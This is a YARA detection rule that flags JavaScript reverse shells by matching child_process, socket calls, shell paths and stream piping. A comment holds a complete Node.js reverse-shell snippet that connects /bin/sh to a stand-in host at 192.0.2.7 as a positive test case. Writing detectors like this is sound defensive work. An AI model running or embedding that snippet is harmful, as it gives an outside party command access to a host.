rule javascript_reverse_shell : text
{
    meta:
        title = "carry a program that hands a shell to somebody outside"
        explanation = "A JavaScript program starts a shell and ties its input and output to a connection that it opens itself. Whoever listens there can type commands. Consoles in a browser wait for people who log in."
        class = "malware"
        severity = "high"
        confidence = "high"
        attack = "T1059.007"
        reference = "https://attack.mitre.org/techniques/T1059/007/"
    strings:
        $start = "child_process"
        $socket1 = "net.Socket("
        $socket2 = "net.connect("
        $socket3 = "net.createConnection("
        $shell1 = "\"/bin/sh\""
        $shell2 = "'/bin/sh'"
        $shell3 = "\"/bin/bash\""
        $shell4 = "'/bin/bash'"
        $out = ".stdout.pipe("
        $in = ".stdin)"
    condition:
        filesize < 64KB and uint32(0) != 0x464c457f and $start and $out and $in and 1 of ($socket*) and 1 of ($shell*)
}

/* example: fires on the ties
    FILE /app/x.js
        const net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
        const c = new net.Socket();
        c.connect(4443, "192.0.2.7", () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });
*/
/* example: quiet on a program that runs a tool and one that talks to a database
    FILE /app/y.js
        const cp = require("child_process"), net = require("net");
        cp.spawn("/bin/sh", ["-c", "ls"]).stdout.pipe(process.stdout);
        net.connect(5432, "db");
*/
